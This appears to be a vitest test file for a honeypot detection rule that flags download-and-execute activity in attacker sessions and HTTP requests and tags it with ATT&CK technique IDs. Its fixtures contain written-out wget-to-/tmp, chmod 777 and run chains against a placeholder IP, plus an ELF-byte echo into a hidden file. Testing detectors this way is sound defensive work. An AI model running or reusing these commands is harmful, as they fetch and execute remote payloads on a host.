import { describe, expect, it } from 'vitest';
import { createAnalysis } from '../analysis.ts';
import { eventOf } from '../event-fixture.ts';
import { dropper } from './dropper.ts';

const start = 1_750_000_000_000;
const command = (input: string, at = 0, head = {}) =>
  eventOf({ kind: 'command', input }, { time: start + at * 1_000, ...head });
const line = 'cd /tmp; wget http://192.0.2.66/x.sh; chmod 777 x.sh; ./x.sh';

describe('dropper', () => {
  it('tells a command that downloads and runs, as proof of exploitation', () => {
    expect(createAnalysis([dropper]).push(command(line))).toMatchObject([
      { evidence: 'E5', confidence: 0.95, attack: ['T1105', 'T1059.004'] },
    ]);
  });

  it('joins what comes in two lines of one session', () => {
    const analysis = createAnalysis([dropper]);
    const fetch = command('wget http://192.0.2.66/x.sh');
    const run = command('sh x.sh', 5);
    expect(analysis.push(fetch)).toEqual([]);
    expect(analysis.push(command('sh x.sh', 2, { session: 'other' }))).toEqual([]);
    expect(analysis.push(run)).toMatchObject([{ evidence: 'E4', because: [fetch.id, run.id] }]);
  });

  it('tells an upload that is run', () => {
    const analysis = createAnalysis([dropper]);
    analysis.push(
      eventOf({ kind: 'upload', sha256: 'ab'.repeat(32), size: 9, name: 'setup.sh' }, { time: start }),
    );
    expect(analysis.push(command('chmod +x setup.sh; sh setup.sh', 1))).toMatchObject([{ evidence: 'E4' }]);
  });

  it('tells a program that was typed in over many lines by what the decoy was left with', () => {
    const analysis = createAnalysis([dropper]);
    const upload = (how: string, at: number) =>
      eventOf(
        { kind: 'upload', sha256: 'cd'.repeat(32), size: 160, name: '/dev/shm/.x', detail: { how } },
        { time: start + at * 1_000 },
      );
    expect(analysis.push(upload('left', 0))).toEqual([]);
    expect(analysis.push(command("echo -ne '\\x7f\\x45\\x4c\\x46' > .x", 1))).toEqual([]);
    expect(analysis.push(command('chmod 777 .x; ./.x', 2))).toMatchObject([{ evidence: 'E4' }]);
    const left = upload('made executable', 3);
    expect(analysis.push(left)).toMatchObject([{ evidence: 'E5', because: [left.id] }]);
  });

  it('finds it in a request, and does not believe a browser', () => {
    const request = (agent: string, more: [string, string][] = []) =>
      eventOf(
        {
          kind: 'request',
          method: 'GET',
          target: '/shell?cd+/tmp;wget+http://192.0.2.66/x;sh+x',
          status: 404,
          headers: [['Host', '198.51.100.1'], ['User-Agent', agent], ...more],
        },
        { time: start, protocol: 'http', session: agent },
      );
    expect(createAnalysis([dropper]).push(request('Hello, World'))).toMatchObject([{ evidence: 'E5' }]);
    expect(createAnalysis([dropper]).push(request('Mozilla/5.0', [['Accept-Language', 'en']]))).toMatchObject(
      [{ evidence: 'E2' }],
    );
  });

  it('does not mind what is only fetched or only run', () => {
    const analysis = createAnalysis([dropper]);
    for (const [n, input] of [
      'uname -a',
      'ls',
      './configure',
      'sh x.sh',
      'curl https://example.org/ -o page.html',
    ].entries())
      expect(analysis.push(command(input, n)), input).toEqual([]);
  });

  it('tells a thousand drops a few times', () => {
    const analysis = createAnalysis([dropper]);
    const signals = Array.from({ length: 1_000 }, (_, n) => command(line, n / 10)).flatMap((one) =>
      analysis.push(one),
    );
    expect(signals.length).toBeLessThanOrEqual(5);
  });
});
